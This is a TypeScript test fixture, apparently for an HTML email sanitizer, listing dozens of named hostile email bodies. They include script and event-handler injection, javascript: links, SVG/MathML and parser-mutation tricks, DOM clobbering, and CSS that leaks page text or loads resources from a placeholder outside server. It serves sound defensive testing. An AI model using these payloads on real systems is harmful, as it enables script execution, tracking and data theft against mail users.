/** A script that leaves a trace. */
export const RUN = "document.documentElement.dataset.ran='1';alert(1)";

/** Emails that try to run scripts or to connect to OUT, the URL of a stranger's server. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script of another server': '<script src="OUT/x.js"></script>',
  'a module': `<script type="module">${RUN}</script><link rel="modulepreload" href="OUT/m.js">`,
  'event handlers': `<img src="x" onerror="${RUN}"><body onload="${RUN}"><p onclick="${RUN}" onpointerover="${RUN}">x</p>`,
  'an animation that runs a handler': `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${RUN}">x</p>`,
  'svg with a script': `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  'svg that loads': '<svg><image href="OUT/a.png"/><use href="OUT/b.svg#x"/><feImage href="OUT/c.png"/></svg>',
  'math in which a style is no style': `<math><annotation-xml encoding="text/html"><img src="x" onerror="${RUN}"></annotation-xml><style><img src="x" onerror="${RUN}"></style></math>`,
  'meta refresh': '<meta http-equiv="refresh" content="0;url=OUT/refresh">',
  'meta refresh behind a tag that is left out': '<<form>meta http-equiv="refresh" content="0;url=OUT/refresh">',
  'a base address': '<base href="OUT/"><img src="a.png"><link rel="stylesheet" href="a.css">',
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="OUT/a.png">`,
  'style sheets from elsewhere':
    '<link rel="stylesheet" href="OUT/a.css"><style>@import "OUT/b.css"; @import url(OUT/c.css);</style>',
  'fonts and backgrounds':
    '<style>@font-face{font-family:f;src:url(OUT/f.woff2)}body{font-family:f;background:url(OUT/a.png)}</style><table background="OUT/b.png"><tr><td style="background-image:url(OUT/c.png);list-style:url(OUT/d.png);cursor:url(OUT/e.png),auto">x</td></tr></table>',
  'backgrounds by other names':
    '<p style="background:\\75 rl(OUT/a.png);list-style-image:image-set(\'OUT/b.png\' 1x)">x</p><style>@\\69mport "OUT/c.css";p{border-image:-webkit-image-set("OUT/d.png" 1x)}b{background:url(\\4f UT/e.png)}</style><b>x</b>',
  images:
    '<img src="OUT/a.png" srcset="OUT/b.png 2x"><picture><source srcset="OUT/c.png"><img src="OUT/d.png"></picture><input type="image" src="OUT/e.png">',
  'sound and pictures that move':
    '<video src="OUT/a.mp4" poster="OUT/a.png" autoplay></video><audio src="OUT/a.mp3" autoplay></audio><track src="OUT/a.vtt">',
  frames: `<iframe src="OUT/a"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><frameset><frame src="OUT/b"></frameset>`,
  objects: '<object data="OUT/a"></object><embed src="OUT/b"><applet code="OUT/c"></applet>',
  'hints to connect':
    '<link rel="preconnect" href="OUT"><link rel="dns-prefetch" href="//stranger.example"><link rel="prefetch" href="OUT/a"><link rel="preload" as="image" href="OUT/b"><link rel="icon" href="OUT/c"><link rel="prerender" href="OUT/d">',
  'rules for what comes next':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["OUT/a"]}]}</script>',
  'a form that sends itself': `<form action="OUT/form" method="post"><input name="a" autofocus onfocus="${RUN}"><button>Go</button></form>`,
  'a link that runs': `<a href="javascript:${RUN}">x</a><a href="data:text/html,<script>${RUN}</script>">y</a>`,
  'a link that tells': '<a href="https://stranger.example/" ping="OUT/ping">x</a>',
  'raw text that ends early': `<style></style><script>${RUN}</script><textarea></textarea><img src="OUT/a.png" onerror="${RUN}"></textarea><title></title><script>${RUN}</script>`,
  'comments that end early': `<!--><script>${RUN}</script>--><!--[if true]><script>${RUN}</script><![endif]--><!-- --!><img src="OUT/a.png">`,
  'what closes the document': `</style></pre></body></html><script>${RUN}</script><img src="OUT/a.png">`,
  'characters between': `<img\u0000src="OUT/a.png"\u000conerror="${RUN}"><scr\u0000ipt>${RUN}</scr\u0000ipt><IMG/SRC="OUT/b.png"/ONERROR="${RUN}">`,
  'a style sheet for media that load': `<style media="url(OUT/a.png)">p{}</style><style media='all"><img src=OUT/b.png onerror=${RUN}>'>p{}</style>`,
  'colour schemes that close their style': `<meta name="color-scheme" content="light}</style><img src=OUT/a.png onerror=${RUN}>"><meta name="color-scheme" content="dark;background:url(OUT/b.png)">`,
  'a body with more than margins': `<body topmargin='0" onload="${RUN}' text="red" link="OUT/a.png" onfocus="${RUN}" autofocus tabindex="1" background="OUT/b.png">`,
  'preferences that load':
    '<style>@media (prefers-color-scheme:dark){p{background:url(OUT/a.png)}}@media (prefers-color-scheme:light){p{background:image-set("OUT/b.png" 1x)}}</style>',
  'svg with a document inside and animated links': `<svg><style>@import "OUT/a.css";*{fill:url(OUT/b.svg#x)}</style><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe><img src="x" onerror="${RUN}"></foreignObject><a id="a" xlink:href="#"><animate attributeName="xlink:href" values="javascript:${RUN}"/><set attributeName="href" to="javascript:${RUN}"/><text>x</text></a><set attributeName="onmouseover" to="${RUN}"/><rect filter="url(OUT/c.svg#f)" mask="url(OUT/d.svg#m)" width="9" height="9"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  'math that changes its namespace': `<math href="javascript:${RUN}"><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction><mglyph src="OUT/a.png"/><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="OUT/b"></iframe></annotation-xml></semantics></math><form><math><mtext></form><form><mglyph><style></math><img src="OUT/c.png" onerror="${RUN}"></style></mglyph></form></mtext></math>`,
  'styles that report what is on the page':
    '<style>@import url("OUT/a.css") layer(x) supports(display:grid);@namespace url(OUT/b);@font-face{font-family:probe;src:local(x),url(OUT/c.woff2);unicode-range:U+34}body:has(b[title^=s]){background:image-set(url(OUT/d.png) type("image/png"),"OUT/e.png" 2x)}b[title^=s]{--leak:url(OUT/f.png);font-family:probe;background:var(--leak);mask-image:url(OUT/g.svg);shape-outside:url(OUT/h.png);offset-path:url(OUT/i.svg#p)}b::before{content:url(OUT/j.png)}</style><b title="secret">482913</b>',
  'styles within new rules':
    '<style>@layer a{@scope (body){p{background:url(OUT/a.png)}}}@property --x{syntax:"<url>";inherits:true;initial-value:url(OUT/b.png)}@counter-style c{system:cyclic;symbols:url(OUT/c.png)}@starting-style{p{background:url(OUT/d.png)}}@keyframes k{to{background:url(OUT/e.png)}}@supports (display:grid){@container (width>1px){p{border-image:cross-fade(url(OUT/f.png),url(OUT/g.png))}}}p{animation:k 1ms forwards;background:var(--x);list-style:c;&::after{content:image-set("OUT/h.png" 1x)}}@page{background:url(OUT/i.png)}</style><p style="behavior:url(OUT/j.htc);-moz-binding:url(OUT/k.xml#x)">x</p>',
  'further hints to connect':
    '<link rel="preconnect dns-prefetch" href="OUT"><link rel="modulepreload" href="OUT/a.js"><link rel="manifest" href="OUT/b.json"><link rel="compression-dictionary" href="OUT/c"><link rel="preload" as="image" imagesrcset="OUT/d.png 1x" imagesizes="1px"><link rel="prefetch" as="document" href="OUT/e"><link rel="expect" href="#x" blocking="render"><link rel="apple-touch-icon" href="OUT/f"><link rel="pingback" href="OUT/g"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link" content="<OUT/h>; rel=preload; as=image"><a href="//stranger.example/">x</a>',
  'images by every attribute':
    '<img srcset="OUT/a.png 1x, OUT/b.png 2x" sizes="100vw" lowsrc="OUT/c.png" dynsrc="OUT/d.avi" attributionsrc="OUT/e" longdesc="OUT/f"><image src="OUT/g.png"><picture><source srcset="OUT/h.png 1w" media="all" type="image/png"><img></picture><map name="m"><area shape="default" href="OUT/i" ping="OUT/j" attributionsrc="OUT/k"></map><img usemap="#m" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' xmlns:x=\'http://www.w3.org/1999/xlink\'><image x:href=\'OUT/l.png\'/></svg>"><td background="OUT/m.png"><bgsound src="OUT/n.wav"><model src="OUT/o.usdz">',
  'URLs in other spellings':
    '<img src="&#104;ttp&colon;//stranger.example/a.png"><img src="//stranger.example/b.png"><img src="\\\\stranger.example\\c.png"><img src="/\\stranger.example/d.png"><img src="ht\ntp://stranger.example/e.png"><img src=" OUT/f.png"><img src="\u0001OUT/g.png"><img src="blob:OUT/h"><img src="filesystem:OUT/i"><img src="view-source:OUT/j">',
  'links that run in other spellings': `<a href="java&#x0A;script:${RUN}" autofocus onfocus="${RUN}">x</a><a href="&#1;javascript:${RUN}">x</a><a href="vbscript:${RUN}">x</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" download>x</a><a xlink:href="javascript:${RUN}" href="feed:javascript:${RUN}">x</a><area href="javascript:${RUN}">`,
  'controls that act without a form': `<form id="f" action="OUT/a" method="post"></form><button form="f" formaction="javascript:${RUN}" autofocus onfocus="${RUN}">x</button><input type="image" form="f" formaction="OUT/b" src="OUT/c.png"><select autofocus onfocus="${RUN}"></select><details open ontoggle="${RUN}"></details><dialog open oncancel="${RUN}">x</dialog><p id="p" popover onbeforetoggle="${RUN}">x</p><button popovertarget="p" commandfor="p" command="show-popover">x</button><marquee onstart="${RUN}" loop="1">x</marquee><input oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto"><isindex action="OUT/d" prompt="x"><keygen>`,
  'frames within frames': `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;'>&lt;/iframe>"></iframe><iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,<script>${RUN}</script>" sandbox="allow-scripts allow-same-origin"></iframe><object type="text/html" data="data:text/html,<script>${RUN}</script>"></object><embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${RUN}'/>"><fencedframe src="OUT/a"></fencedframe><portal src="OUT/b"></portal><webview src="OUT/c"></webview>`,
  'elements that are named like properties': `<form name="body"><input name="attributes"><input name="childNodes"><input name="nodeName"><input name="parentNode"><img name="removeChild"></form><img name="getElementById"><a id="location" href="javascript:${RUN}">x</a><a id="defaultView" name="document">x</a><iframe name="top" srcdoc="<a id=opener>"></iframe><object id="documentElement" name="trustedTypes" data="OUT/a"></object><a id="credentials" href="OUT/b">x</a>`,
  'shadow roots and templates': `<div><template shadowrootmode="open" shadowrootclonable><style>@import "OUT/a.css";:host{background:url(OUT/b.png)}</style><script>${RUN}</script><img src="OUT/c.png" onerror="${RUN}"><slot onslotchange="${RUN}"></slot></template></div><template><img src="OUT/d.png" onerror="${RUN}"></template><x-y is="a-b"><slot name="x"><img src="OUT/e.png"></slot></x-y>`,
  'a document inside the document': `<!doctype html><html onload="${RUN}" manifest="OUT/a"><head profile="OUT/b"><base href="OUT/" target="_top"><meta http-equiv="set-cookie" content="a=1"><meta http-equiv="Refresh" content="0; URL='OUT/c'"><meta name="referrer" content="unsafe-url"></head><body onpageshow="${RUN}" onhashchange="${RUN}"><noscript><img src="OUT/d.png"></noscript><img src="e.png"></body></html>`,
  'markup that changes when it is parsed again': `<noscript><p title="</noscript><img src=OUT/a.png onerror=${RUN}>"></noscript><svg><p><style><g title="</style><img src=OUT/b.png onerror=${RUN}>"></style></p></svg><select><iframe><script>${RUN}</script></iframe></select><xmp><p title="</xmp><img src=OUT/c.png onerror=${RUN}>"></xmp><noembed><p title="</noembed><img src=OUT/d.png onerror=${RUN}>"></noembed><listing>&lt;img src=OUT/e.png onerror=${RUN}&gt;</listing><title><p title="</title><img src=OUT/f.png onerror=${RUN}>"></title><table><plaintext><img src="OUT/g.png" onerror="${RUN}">`,
};
